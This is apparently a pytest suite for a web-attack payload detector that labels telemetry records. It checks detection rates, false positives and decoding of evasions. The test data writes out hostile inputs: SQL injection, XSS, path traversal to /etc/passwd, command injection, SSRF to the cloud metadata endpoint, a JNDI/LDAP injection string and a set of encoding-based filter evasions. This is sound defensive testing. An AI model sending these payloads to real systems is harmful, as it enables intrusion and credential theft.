"""Payload inspection on real attack traffic: the OWASP CRS regression payloads (per family, goal
>= 95 % of those that arrive in a URL), HTTP CSIC 2010 normal traffic plus our own benign cases
(false positives <= 0.5 %), scanner access lines through the real SDK pipeline, decoding tricks,
the byte bound, and RE2 compatibility of every pattern and decoding step."""

from __future__ import annotations

import gzip
import json
import random
import re
from collections import Counter, defaultdict
from pathlib import Path
from typing import Any

import pytest

from otel_ext.classify import EventClassifierProcessor
from otel_ext.classify.fields import parse_access_line
from otel_ext.classify.payload import (
    BOUND_BYTES,
    PATTERNS,
    PayloadInspector,
    decode_steps,
    inspect_mapping,
    normalize,
    normalize_reference,
)
from otel_ext.telemetry import Counters

CORPUS = Path(__file__).parent / "attack_corpus"
_SIMPLE_PATH = re.compile(r"^/[A-Za-z0-9_./-]*$")
URL_GOAL = 0.95  # the goal, over all families
# Per-family floors at the measured rates on the committed corpus (a regression guard).
URL_FLOOR = {"lfi": 1.0, "scanner": 1.0, "xss": 1.0, "sqli": 0.98, "rce": 0.95, "php": 0.95, "generic": 0.92,
             "rfi": 0.85}
FP_LIMIT = 0.005


def request_attrs(row: dict[str, Any], url_only: bool = False) -> dict[str, str]:
    """The attributes an instrumented service (or our access-line parser) would carry."""
    path, _, query = row["uri"].partition("?")
    attrs = {"url.path": path}
    if query:
        attrs["url.query"] = query
    if url_only:
        return attrs
    if row.get("ua"):
        attrs["user_agent.original"] = row["ua"]
    if row.get("referer"):
        attrs["http.request.referrer"] = row["referer"]
    if row.get("body"):
        attrs["http.request.body.content"] = row["body"]
    return attrs


def arrives_in_url(row: dict[str, Any]) -> bool:
    """A CRS test whose payload is in the URL: it has a query, or a path beyond plain words."""
    path, _, query = row["uri"].partition("?")
    return bool(query) or not _SIMPLE_PATH.match(path)


def crs_rows() -> list[dict[str, Any]]:
    return [json.loads(line) for line in (CORPUS / "crs.jsonl").read_text().splitlines()]


def csic_rows() -> list[dict[str, Any]]:
    with gzip.open(CORPUS / "csic_normal.jsonl.gz", "rt", encoding="utf-8") as f:
        return [json.loads(line) for line in f]


def detection_by_family() -> dict[str, tuple[int, int]]:
    """family -> (URL-borne CRS payloads, detected). Scanner tests count by their user agent."""
    inspector = PayloadInspector()
    counts: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for row in crs_rows():
        if not row["expect"]:
            continue
        if row["family"] == "scanner":
            attrs = request_attrs(row)
        elif arrives_in_url(row):
            attrs = request_attrs(row, url_only=True)
        else:
            continue
        counts[row["family"]][0] += 1
        counts[row["family"]][1] += inspector.inspect(attrs.get) is not None
    return {family: (n, found) for family, (n, found) in counts.items()}


def test_crs_payloads_in_the_url_are_detected_per_family() -> None:
    rates = detection_by_family()
    report = {f: f"{found}/{n} = {found / n:.1%}" for f, (n, found) in sorted(rates.items())}
    print("CRS detection (payload in URL):", json.dumps(report, indent=1))
    total = sum(n for n, _ in rates.values())
    found = sum(d for _, d in rates.values())
    print(f"overall {found}/{total} = {found / total:.1%} (goal {URL_GOAL:.0%})")
    assert set(rates) >= {"sqli", "xss", "lfi", "rfi", "rce", "scanner"}
    for family, (n, detected) in rates.items():
        assert detected / n >= URL_FLOOR[family], (family, report)
    assert found / total >= URL_GOAL, report


BENIGN = [
    # our own labelled benign cases: things real APIs see every day
    {"method": "GET", "uri": "/api/v1/orders?page=2&per_page=50&sort=-created_at"},
    {"method": "GET", "uri": "/search?q=select+a+size&category=shoes"},
    {"method": "GET", "uri": "/search?q=drop+shipping+and+union+jobs"},
    {"method": "GET", "uri": "/search?q=O%27Reilly+books+or+magazines"},
    {"method": "GET", "uri": "/search?q=rock+%26+roll"},
    {"method": "GET", "uri": "/static/js/app.3f9a1c.js"},
    {"method": "GET", "uri": "/static/css/main.css?v=12"},
    {"method": "GET", "uri": "/users/me", "ua": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0"},
    {"method": "GET", "uri": "/health", "ua": "kube-probe/1.29"},
    {"method": "GET", "uri": "/metrics", "ua": "Prometheus/2.48.0"},
    {"method": "GET", "uri": "/api/items", "ua": "python-requests/2.31.0"},
    {"method": "GET", "uri": "/api/items", "ua": "curl/8.5.0"},
    {"method": "POST", "uri": "/api/login", "body": '{"username": "alice", "password": "p@ss&w0rd!"}'},
    {"method": "POST", "uri": "/api/comments", "body": "text=I+love+this%21+Works+great+%3A%29"},
    {"method": "GET", "uri": "/redirect?next=%2Fdashboard%3Ftab%3Dbilling"},
    {"method": "GET", "uri": "/callback?code=4%2F0AX4XfWh&state=xyz&scope=email+profile"},
    {"method": "GET", "uri": "/api/reports?from=2026-01-01&to=2026-01-31&format=csv"},
    {"method": "GET", "uri": "/files/report-2026.pdf"},
    {"method": "GET", "uri": "/api/v2/users/42/orders/17"},
    {"method": "GET", "uri": "/api/geo?lat=48.8566&lon=2.3522"},
    {"method": "GET", "uri": "/api/products?filter=price%3E10%26price%3C20"},
    {"method": "GET", "uri": "/blog/how-to-select-the-right-plan"},
    {"method": "GET", "uri": "/docs/getting-started/install"},
    {"method": "GET", "uri": "/api/events?since=1700000000&limit=100"},
    {"method": "GET", "uri": "/img/logo.png", "referer": "https://example.com/pricing?utm_source=news"},
    {"method": "GET", "uri": "/api/search?q=c%2B%2B+tutorial"},
    {"method": "GET", "uri": "/api/search?q=50%25+off"},
    {"method": "GET", "uri": "/api/translate?text=caf%C3%A9+cr%C3%A8me"},
    {"method": "GET", "uri": "/api/notes?title=Meeting+at+10%3A30+%28room+B%29"},
    {"method": "GET", "uri": "/login?next=/account/settings"},
    {"method": "GET", "uri": "/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb"},
    {"method": "GET", "uri": "/api/orders?status=shipped,delivered&fields=id,total"},
    {"method": "GET", "uri": "/api/users?email=jane.doe%40example.com"},
    {"method": "GET", "uri": "/wiki/Main_Page"},
    {"method": "GET", "uri": "/favicon.ico"},
    {"method": "GET", "uri": "/robots.txt"},
    {"method": "GET", "uri": "/.well-known/openid-configuration"},
    {"method": "POST", "uri": "/graphql", "body": '{"query": "{ user(id: 1) { name email } }"}'},
    {"method": "GET", "uri": "/api/time?tz=Europe%2FParis"},
    {"method": "GET", "uri": "/api/math?expr=2%2B2"},
]


def test_benign_traffic_false_positives_stay_under_half_a_percent() -> None:
    inspector = PayloadInspector()
    rows = csic_rows() + BENIGN
    hits = Counter()
    examples: dict[str, str] = {}
    for row in rows:
        hit = inspector.inspect(request_attrs(row).get)
        if hit is not None:
            hits[hit.pattern] += 1
            examples.setdefault(hit.pattern, f"{row['uri'][:120]} {str(row.get('body'))[:120]}")
    rate = sum(hits.values()) / len(rows)
    print(f"benign: {len(rows)} requests, {sum(hits.values())} flagged = {rate:.3%}", dict(hits))
    assert len(rows) > 18_000
    assert rate <= FP_LIMIT, examples
    own = [row for row in BENIGN if inspector.inspect(request_attrs(row).get) is not None]
    assert not own, own


SCANNER_LINES = [
    # (gunicorn combined format line, family) — shapes from public scanner-run logs
    ('10.0.0.7 - - [26/Nov/2026:10:00:00 +0000] "GET /index.php?id=1%27%20AND%20SLEEP(6)--%20 HTTP/1.1" 200 512 '
     '"-" "Mozilla/5.0"', "sqli"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:01 +0000] "GET /search?q=%3CScRiPt%3Ealert(1)%3C/ScRiPt%3E HTTP/1.1" 200 '
     '90 "-" "Mozilla/5.0"', "xss"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:02 +0000] "GET /download?file=../../../../etc/passwd%00.png HTTP/1.1" 200 '
     '1 "-" "Mozilla/5.0"', "path_traversal"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:03 +0000] "GET /ping?host=127.0.0.1%7Ccat%20/etc/passwd HTTP/1.1" 200 '
     '1 "-" "Mozilla/5.0"', "cmdi"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:04 +0000] "POST /wp-login.php HTTP/1.1" 404 0 "-" "Mozilla/5.0"',
     "sensitive_file"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:05 +0000] "GET /.env HTTP/1.1" 404 0 "-" "Mozilla/5.0"', "sensitive_file"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:06 +0000] "GET /products HTTP/1.1" 200 10 "-" '
     '"Mozilla/5.0 (compatible; w3af.org)"', "attack_tool"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:07 +0000] "GET /item?id=1;waitfor%20delay%20%270:0:6%27-- HTTP/1.1" 500 '
     '0 "-" "Mozilla/5.0"', "sqli"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:08 +0000] "GET /a?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1" '
     '200 0 "-" "Mozilla/5.0"', "ssrf"),
    ('10.0.0.7 - - [26/Nov/2026:10:00:09 +0000] "GET /a?name=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D HTTP/1.1" '
     '200 0 "-" "Mozilla/5.0"', "template"),
]


@pytest.mark.parametrize(("line", "family"), SCANNER_LINES, ids=[f for _, f in SCANNER_LINES])
def test_scanner_access_lines_are_labelled_security(make_pipeline: Any, line: str, family: str) -> None:
    pipe = make_pipeline(EventClassifierProcessor(counters=Counters("t")))
    pipe.logger("gunicorn.access").info(line)
    record = pipe.last().log_record
    attrs = dict(record.attributes or {})
    assert attrs["labels.event_class"] == "security"
    assert tuple(attrs["event.category"])[:2] == ("intrusion_detection", "web")
    assert attrs["event.action"].startswith("malicious_")
    assert attrs["rule.category"]
    assert attrs["client.address"] == "10.0.0.7"
    assert attrs["labels.attack_field"] in {"url.path", "url.query", "user_agent.original"}
    status = attrs["http.response.status_code"]
    if status < 400:
        assert attrs["event.outcome"] == "success" and next(iter(attrs["event.type"])) == "info"
        assert record.severity_text in {"ERROR", "FATAL"}
    else:
        assert attrs["event.outcome"] == "failure" and next(iter(attrs["event.type"])) == "denied"
    # the payload itself is never copied into new attributes
    payload_values = {v for k, v in attrs.items() if k.startswith(("rule.", "labels."))}
    assert not any(isinstance(v, str) and len(v) > 12 and v in line for v in payload_values)
    hit = inspect_mapping(attrs)
    assert hit is not None and hit.family == family


def test_payload_inspection_labels_instrumented_records(make_pipeline: Any) -> None:
    pipe = make_pipeline(EventClassifierProcessor(counters=Counters("t")))
    pipe.logger("shop.api").info("done", extra={
        "http.request.method": "GET", "http.route": "/items", "url.path": "/items",
        "url.query": "id=1%20UNION%20SELECT%20password%20FROM%20users", "http.response.status_code": 403})
    attrs = pipe.attrs()
    assert attrs["event.action"] == "malicious_sqli"
    assert attrs["labels.attack_field"] == "url.query"
    assert attrs["rule.id"] == "sqli.union"
    assert attrs["event.outcome"] == "failure"
    assert next(iter(attrs["event.type"])) == "denied"


def test_attack_tool_user_agent_on_a_clean_request(make_pipeline: Any) -> None:
    pipe = make_pipeline(EventClassifierProcessor(counters=Counters("t")))
    pipe.logger("shop.api").info("done", extra={
        "url.path": "/", "user_agent.original": "sqlmap/1.7.2#stable (https://sqlmap.org)"})
    attrs = pipe.attrs()
    assert attrs["event.action"] == "malicious_attack_tool"
    assert attrs["event.outcome"] == "unknown"
    assert attrs["labels.attack_field"] == "user_agent.original"


def test_padding_past_the_bound_is_itself_a_signal() -> None:
    line = '10.0.0.9 - - [26/Nov/2026:10:00:00 +0000] "GET /x?pad=' + "A" * 4300 + '&f=../../etc/passwd HTTP/1.1" 200 1'
    parsed = parse_access_line(line)
    assert parsed is not None and parsed["url.query"].endswith("etc/passwd")  # type: ignore[union-attr]
    hit = inspect_mapping(parsed)  # type: ignore[arg-type]
    assert hit is not None and hit.family == "path_traversal"  # 4.3 kB is under the bound: scanned whole
    huge = {"url.path": "/x", "url.query": "pad=" + "A" * BOUND_BYTES + "&f=../../etc/passwd"}
    hit = inspect_mapping(huge)
    assert hit is not None and hit.family == "oversize" and hit.field == "url.query"
    huge_body = inspect_mapping({"url.path": "/upload", "http.request.body.content": "a" * 10_000_000})
    assert huge_body is not None and huge_body.family == "oversize"  # not scanned, not even hashed
    # multi-byte characters count in UTF-8 bytes, as the collector's Len() does
    assert inspect_mapping({"url.query": "é" * (BOUND_BYTES // 2 + 1)}) is not None
    assert inspect_mapping({"url.query": "é" * (BOUND_BYTES // 2 - 8)}) is None


@pytest.mark.parametrize("raw", [
    "/a?id=1%2527%2520union%2520select%25201",            # double percent-encoding
    "/a?id=1%252527%252520union%252520select%2525201",    # triple
    "/a?q=%26lt%3Bscript%26gt%3B",                         # entity inside percent-encoding
    "/a?q=&#x3C;script&#x3E;",                              # hex entity
    "/a?q=&#0000060;script&#62;",                          # decimal entity with padding zeros
    "/a?q=%u003Cscript%u003E",                              # %u encoding
    "/a?q=\\x3cscript\\x3e",                                 # JS escape
    "/a?f=..%c0%af..%c0%afetc%c0%afpasswd",                 # overlong UTF-8
    "/a?f=%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc%EF%BC%8Fpasswd",   # full-width, percent-encoded
    "/a?f=\uff0e\uff0e\uff0fetc\uff0fpasswd",                # full-width
    "/a?id=1+UnIoN+SeLeCt+1",                                # + and mixed case
    "/a?id=1/**/union/**/select/**/1",                       # SQL comments
    "/a?id=1%00'%20or%201=1--",                              # NUL byte
])
def test_waf_style_decoding_defeats_encoded_evasions(raw: str) -> None:
    path, _, query = raw.partition("?")
    assert inspect_mapping({"url.path": path, "url.query": query}) is not None, normalize(query)


def test_fast_normalize_equals_the_step_by_step_reference() -> None:
    samples = [r["uri"] for r in crs_rows()[::3]] + [r["uri"] for r in csic_rows()[::40]]
    samples += ["%%341", "%2%341", "%%0041", "%25%32%37", "&#x25;3c", "%c0%2e%2e/", "a  b\t\tc"]
    pieces = [*"%&#;x0123456789abcdefABCDEF+/*\\u.<>'\"lgtampquo \t\n", "%25", "%u00", "&#x", "&lt", "\\x",
              "%c0%af", "\uff0e", "\u3002", "/*!", "*/", "%00", "%0a"]
    rnd = random.Random(7)  # random mixes of every decoding trigger
    samples += ["".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 30))) for _ in range(5000)]
    for text in samples:
        assert normalize(text) == normalize_reference(text), text


def test_numeric_path_segments_share_a_verdict() -> None:
    """The memo keys plain paths with all-digit segments collapsed: check that no pattern's verdict
    depends on which digits such a segment holds."""
    from otel_ext.classify.payload import _MATCHERS

    paths = {r["uri"].partition("?")[0] for r in crs_rows() + csic_rows()} | {
        "/proc/1/environ", "/proc/12345/cmdline", "/api/orders/17", "/0x41414141", "/wp-admin/1", "/1.bak",
        "/etc/passwd/0", "/v1/2130706433/x", "/backup/2024/db.sql"}
    for path in paths:
        if re.fullmatch(r"[A-Za-z0-9/_.-]*", path) is None:
            continue
        verdict = _MATCHERS["path"].first(normalize(path))
        for digits in ("0", "7", "99999", "123456789012"):
            other = re.sub(r"/[0-9]+(?=/|$)", "/" + digits, path)
            assert _MATCHERS["path"].first(normalize(other)) == verdict, (path, other)


def test_every_pattern_and_decoding_step_is_re2_compatible() -> None:
    re2 = pytest.importorskip("re2")
    for pattern in PATTERNS:
        re2.compile(pattern.regex)
    for step in decode_steps():
        re2.compile(step.regex)


@pytest.mark.parametrize(("line", "client"), [
    ('127.0.0.1 [26/Nov/2026:16:00:00 +0000] "GET /api/items?page=2 HTTP/1.1" 200 123 "-" "curl/8.5.0"', "127.0.0.1"),
    ('::1 [26/Nov/2026:16:00:00 +0000] "GET /x HTTP/1.1" 404 0 "-" "-"', "::1"),
    ('203.0.113.9 [26/Nov/2026:16:00:00 +0000] "GET /a?q=%3Cscript%3E HTTP/1.1" 200 5 "https://ref.example/" "Mozilla/5.0"',
     "203.0.113.9"),
])
def test_aiohttp_default_access_format_yields_client_address(make_pipeline: Any, line: str, client: str) -> None:
    pipe = make_pipeline(EventClassifierProcessor(counters=Counters("t")))
    pipe.logger("aiohttp.access").info(line)
    attrs = pipe.attrs()
    assert attrs["client.address"] == client
    assert attrs["http.request.method"] == "GET"
    if '"-" "-"' not in line:
        assert attrs["user_agent.original"] in {"curl/8.5.0", "Mozilla/5.0"}
    if "ref.example" in line:
        assert attrs["http.request.referrer"] == "https://ref.example/"
        assert attrs["event.action"] == "malicious_xss"


def test_equality_gated_rules_still_match_unhashable_attribute_values(make_pipeline: Any) -> None:
    from otel_ext.classify import build_ruleset

    rules = [{"id": "t.eq", "when": {"attributes.kind": "x"}, "class": "security"},
             {"id": "t.eq2", "when": {"attributes.kind": "y"}, "class": "error"}]
    pipe = make_pipeline(EventClassifierProcessor(build_ruleset(rules=rules, use_env=False), counters=Counters("t")))
    log = pipe.logger("shop.api")
    log.info("a", extra={"kind": "x"})
    assert pipe.attrs()["labels.event_class"] == "security"
    log.info("b", extra={"kind": "y"})
    assert pipe.attrs()["labels.event_class"] == "error"
    log.info("c", extra={"kind": ["x"]})  # a list: never equal to "x", and no crash
    assert pipe.attrs()["labels.event_class"] == "application"
    log.info("d", extra={"kind": {"nested": "x"}})  # a mapping (unhashable): every rule tried, none match
    assert pipe.attrs()["labels.event_class"] == "application"
